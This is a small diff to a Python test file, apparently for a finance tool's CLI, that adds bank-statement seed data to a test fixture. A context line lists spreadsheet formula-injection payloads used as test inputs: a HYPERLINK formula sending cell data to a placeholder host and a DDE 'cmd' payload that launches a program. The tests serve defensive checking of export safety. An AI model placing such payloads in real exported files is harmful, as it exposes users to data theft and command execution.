@@ -28,6 +28,8 @@ PAYLOADS = ('=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM
 @pytest.fixture
 def tiny(database):
     write(database, generate("tiny", 1, AS_OF), "seed")
+    month = {"period_start": date(2026, 10, 1), "period_end": date(2026, 11, 1), "source": "bank"}
+    make.add(database, "bank_statements", bank_account="55501234", kind="bank", currency="USD", movements=-100, **month)
 
 
 def test_the_calendar_is_ics_and_nothing_else_is(cli, tiny, tmp_path):
